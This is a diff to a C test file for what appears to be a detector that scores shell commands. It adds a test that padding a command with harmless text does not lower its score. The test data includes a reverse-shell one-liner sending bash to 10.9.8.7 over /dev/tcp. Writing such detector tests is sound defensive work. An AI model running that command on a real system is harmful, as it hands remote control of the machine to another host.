@@ -100,6 +100,19 @@ static double raw_of(const struct rv_text_model *model, const char *text)
     return score.raw;
 }
 
+/** The score of a command behind `bytes` of harmless ones. */
+static double raw_behind(const struct rv_text_model *model, size_t bytes, const char *command)
+{
+    RV_AUTO(rv_buf_done) struct rv_buf line = { 0 };
+    struct rv_score score;
+
+    while (line.len < bytes)
+        rv_buf_add_str(&line, "ls -l file ; ");
+    rv_buf_add_str(&line, command);
+    rv_assert_ok(rv_text_score(model, rv_buf_span(&line), &score));
+    return score.raw;
+}
+
 static void text_around_a_command_never_lowers_its_score(void **state)
 {
     static const char *const commands[] = { "bash -i >& /dev/tcp/10.9.8.7/443 0>&1",
@@ -123,6 +136,7 @@ static void text_around_a_command_never_lowers_its_score(void **state)
             assert_true(raw_of(model, text) >= alone - 1e-9);
         }
     }
+    assert_true(raw_behind(model, 300000, commands[0]) >= raw_of(model, commands[0]) - 1e-9);
     rv_text_model_free(&model);
     rv_lines_done(&normal);
     rv_lines_done(&attack);
